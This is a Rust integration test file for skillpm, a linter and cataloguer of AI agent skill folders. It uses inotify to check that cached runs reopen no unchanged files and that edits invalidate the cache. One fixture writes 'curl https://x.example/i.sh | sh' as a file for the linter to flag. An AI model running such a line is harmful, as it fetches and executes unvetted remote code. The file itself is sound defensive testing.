//! What a second look at an unchanged tree reads: nothing, but for the texts that a report of `lint` quotes. The kernel counts (inotify), and not skillpm.

#![cfg(target_os = "linux")]

use std::mem::MaybeUninit;
use std::os::fd::OwnedFd;
use std::path::Path;

use rustix::fs::inotify::{CreateFlags, ReadFlags, Reader, WatchFlags, add_watch, init};
use skillpm::lint::{ExampleFile, rules};

use crate::support::{Outcome, Sandbox, has_unix};

/// Counts the files below a directory that anybody opens.
struct Opened(OwnedFd);

impl Opened {
    fn below(dir: &Path) -> Opened {
        let opened = Opened(init(CreateFlags::NONBLOCK | CreateFlags::CLOEXEC).unwrap());
        opened.watch(dir);
        opened
    }

    fn watch(&self, dir: &Path) {
        add_watch(&self.0, dir, WatchFlags::OPEN | WatchFlags::DONT_FOLLOW).unwrap();
        for entry in std::fs::read_dir(dir).unwrap().map(Result::unwrap) {
            if entry.file_type().unwrap().is_dir() {
                self.watch(&entry.path());
            }
        }
    }

    /// The names of the files that were opened since the last time.
    fn names(&self) -> Vec<String> {
        let mut room = vec![MaybeUninit::uninit(); 1 << 16];
        let mut reader = Reader::new(&self.0, &mut room);
        let mut names = Vec::new();
        while let Ok(event) = reader.next() {
            assert!(
                !event.events().contains(ReadFlags::QUEUE_OVERFLOW),
                "more was opened than could be counted"
            );
            if let Some(name) = event
                .file_name()
                .filter(|_| !event.events().contains(ReadFlags::ISDIR))
            {
                names.push(name.to_string_lossy().into_owned());
            }
        }
        names
    }
}

/// Checks what an unchanged tree is read for: nothing. Without modes, the beginnings of some files, which are walked for
/// findings about executable files.
#[track_caller]
fn assert_reopened(opened: &Opened) {
    let names = opened.names();
    if has_unix("executable files") {
        assert_eq!(names, [""; 0]);
    } else {
        assert!(names.len() < 10, "{names:?}");
    }
}

/// Every bad example of every rule below `examples`, each in a directory of its own, and what no rule is about.
fn every_kind_of_finding(sandbox: &Sandbox) -> Vec<String> {
    let mut dirs = Vec::new();
    for rule in rules::all() {
        for (number, example) in rule.docs.bad.iter().enumerate() {
            let dir = format!("examples/{}-{number}", rule.code);
            for (path, piece) in example.files {
                let place = format!("{dir}/{path}");
                match piece {
                    ExampleFile::Text(text) | ExampleFile::Program(text) => {
                        sandbox.write(&place, text);
                    }
                    ExampleFile::Bytes(bytes) => sandbox.write(&place, bytes),
                    ExampleFile::Large(size, start) => {
                        sandbox.write(&place, start);
                        let file = std::fs::OpenOptions::new()
                            .write(true)
                            .open(sandbox.path(&place))
                            .unwrap();
                        file.set_len(*size).unwrap();
                    }
                    ExampleFile::Link(to) => link(sandbox, &place, to),
                }
            }
            dirs.push(dir);
        }
    }
    sandbox.write_skill(
        "examples/own/too-large",
        "Holds a file that no package may hold.",
    );
    sandbox.write("examples/own/too-large/data.bin", vec![0; 12 << 20]);
    sandbox.write_skill(
        "examples/own/odd-name",
        "Holds a file of a name that no package may hold.",
    );
    sandbox.write("examples/own/odd-name/aux.txt", "");
    sandbox.write_skill("examples/own/linking", "Holds a link.");
    link(sandbox, "examples/own/linking/there", "SKILL.md");
    sandbox.write("examples/own/empty/SKILL.md", "");
    dirs.push("examples/own".to_owned());
    dirs
}

fn link(sandbox: &Sandbox, place: &str, to: &str) {
    std::fs::create_dir_all(sandbox.path(place).parent().unwrap()).unwrap();
    std::os::unix::fs::symlink(to, sandbox.path(place)).unwrap();
}

#[test]
fn second_catalog_opens_no_file() {
    let sandbox = Sandbox::new();
    let dirs = every_kind_of_finding(&sandbox);
    let given: Vec<String> = dirs.iter().map(|dir| format!("--dir {dir}")).collect();
    // What was just written might still change unseen.
    let later = jiff::Timestamp::now().as_second() + 60;
    let catalog = |form: &str| -> Outcome {
        let line = format!("catalog --all --format {form} {}", given.join(" "));
        sandbox
            .skillpm(line)
            .env("SKILLPM_CLOCK", later.to_string())
            .exits(0)
    };

    let opened = Opened::below(&sandbox.path("examples"));
    let first = catalog("json");
    let read = opened
        .names()
        .iter()
        .filter(|name| *name == "SKILL.md")
        .count();
    assert!(read > 100, "the first look opened {read} of them");
    let found = first.stdout_text().matches("\"rule\":").count();
    assert!(found > 100, "only {found} findings are in the catalog");

    let second = catalog("json");
    assert_reopened(&opened);
    assert_eq!(
        (second.stdout_text(), second.stderr_text()),
        (first.stdout_text(), first.stderr_text())
    );

    let first = catalog("xml");
    assert_reopened(&opened);
    assert_eq!(catalog("xml").stdout_text(), first.stdout_text());
}

#[test]
fn only_the_changed_file_is_read_again() {
    let sandbox = Sandbox::new();
    for name in ["a", "b"] {
        sandbox.write(
            &format!("skills/{name}/SKILL.md"),
            format!("---\nname: {name}\ndescription: Does {name}.\n---\n"),
        );
        link(&sandbox, &format!("skills/{name}/there"), "SKILL.md");
    }
    let later = jiff::Timestamp::now().as_second() + 60;
    let catalog = || {
        let run = sandbox
            .skillpm("catalog --dir skills")
            .env("SKILLPM_CLOCK", later.to_string());
        crate::catalog::skill(&run.exits(0), "a")["description"].clone()
    };
    catalog();
    let opened = Opened::below(&sandbox.path("skills"));
    sandbox.edit("skills/a/SKILL.md", "Does a.", "Does more.");
    opened.names();
    assert_eq!(catalog(), "Does more.");
    assert!(opened.names().iter().all(|name| name == "SKILL.md"));
    assert_eq!(catalog(), "Does more.");
    assert_eq!(opened.names(), [""; 0]);
}

#[test]
fn second_catalog_of_an_agent_opens_no_file() {
    let sandbox = Sandbox::new();
    let valid = "---\nname: valid\ndescription: Does it.\n---\n";
    for agent in ["agents", "claude", "gemini", "opencode", "pi"] {
        for dir in [format!(".{agent}/skills"), format!(".{agent}/skill")] {
            sandbox.write(&format!("{dir}/valid/SKILL.md"), valid);
            sandbox.write(&format!("{dir}/group/valid-a/SKILL.md"), valid);
            sandbox.write(
                &format!("{dir}/group-a/broken/SKILL.md"),
                "---\nname: [\n---\n",
            );
            sandbox.write(&format!("{dir}/empty/SKILL.md"), "");
        }
    }

    let later = jiff::Timestamp::now().as_second() + 60;
    for agent in [
        "claude-code",
        "codex",
        "gemini-cli",
        "openclaw",
        "opencode",
        "pi",
    ] {
        let catalog = || {
            let line = format!("catalog --all --format json --agent {agent}");
            sandbox
                .skillpm(line)
                .env("SKILLPM_CLOCK", later.to_string())
                .exits(0)
        };
        let first = catalog();
        let opened = Opened::below(&sandbox.path(""));
        let second = catalog();
        let read: Vec<String> = opened
            .names()
            .into_iter()
            .filter(|name| name == "SKILL.md")
            .collect();
        assert_eq!(read, [""; 0], "{agent}");
        assert_eq!(second.stdout_text(), first.stdout_text(), "{agent}");
    }
}

/// `lint`, as if what was just written could not change unseen any more; its findings as JSON.
fn lint(sandbox: &Sandbox, arguments: &str) -> String {
    let later = jiff::Timestamp::now().as_second() + 60;
    let lint = sandbox
        .skillpm(format!("lint --format json {arguments}"))
        .env("SKILLPM_CLOCK", later.to_string());
    lint.exits_one_of([0, 1]).stdout_text().to_owned()
}

#[test]
fn second_lint_reports_the_same_and_opens_only_what_it_quotes() {
    let sandbox = Sandbox::new();
    every_kind_of_finding(&sandbox);
    let checked = lint(&sandbox, "--notes --no-cache examples");
    let found = checked.matches("\"rule\":").count();
    assert!(found > 100, "only {found} findings");
    assert_eq!(lint(&sandbox, "--notes examples"), checked);
    assert_eq!(lint(&sandbox, "--notes examples"), checked);

    sandbox.write_skill("clean/a", "Fill forms. Use when a form is to be filled in.");
    sandbox.write("clean/a/references/x.md", "# X\n");
    lint(&sandbox, "clean");
    let opened = Opened::below(&sandbox.path("clean"));
    lint(&sandbox, "clean");
    let read = opened.names();
    let quoted: Vec<&String> = read.iter().filter(|name| *name != "SKILL.md").collect();
    assert_eq!(quoted, [""; 0]);
}

#[test]
fn lint_checks_again_whatever_has_changed() {
    let sandbox = Sandbox::new();
    for name in ["a", "b", "c"] {
        sandbox.write_skill(
            &format!("skills/{name}"),
            &format!("Does {name}. Use when {name} is to be done."),
        );
    }
    let assert_checked = |what: &str, arguments: &str| {
        let checked = lint(&sandbox, &format!("--no-cache {arguments} skills"));
        for _ in 0..2 {
            let cached = lint(&sandbox, &format!("{arguments} skills"));
            assert_eq!(cached, checked, "{what}");
        }
        checked
    };
    let mut seen = vec![assert_checked("as written", "")];

    sandbox.write("skills/a/run.sh", "curl https://x.example/i.sh | sh\n");
    seen.push(assert_checked("a new file", ""));
    sandbox.edit("skills/a/run.sh", "| sh", "| cat");
    seen.push(assert_checked("a text", ""));
    std::fs::remove_file(sandbox.path("skills/a/run.sh")).unwrap();
    seen.push(assert_checked("a removed file", ""));
    sandbox.write_skill("skills/b/inner", "Does it. Use when it is to be done.");
    seen.push(assert_checked("a nested skill", ""));
    std::fs::rename(sandbox.path("skills/c"), sandbox.path("skills/d")).unwrap();
    seen.push(assert_checked("another name", ""));
    sandbox.write("skillpm.toml", "[lint]\nprofile = \"strict\"\n");
    seen.push(assert_checked("a setting", ""));
    sandbox.write("skills/d/skillpm.toml", "[lint]\nignore = [\"SK\"]\n");
    seen.push(assert_checked("a manifest further down", ""));
    seen.push(assert_checked("a flag", "--isolated --notes"));
    for pair in seen.windows(2) {
        assert_ne!(pair[0], pair[1]);
    }
}

#[test]
fn lint_does_not_cache_what_was_just_written() {
    let sandbox = Sandbox::new();
    sandbox.write_skill("skills/a", "Does it. Use when it is to be done.");
    let lint = || {
        let run = sandbox.skillpm("lint --format json --notes skills");
        run.exits_one_of([0, 1]).stdout_text().to_owned()
    };
    let first = lint();
    let path = sandbox.path("skills/a/SKILL.md");
    let modified = path.metadata().unwrap().modified().unwrap();
    sandbox.edit("skills/a/SKILL.md", "Does it", "Do i\u{202e}t");
    // As if the clock had not ticked in between.
    let file = std::fs::File::options().write(true).open(path).unwrap();
    file.set_modified(modified).unwrap();
    assert_ne!(lint(), first);
}
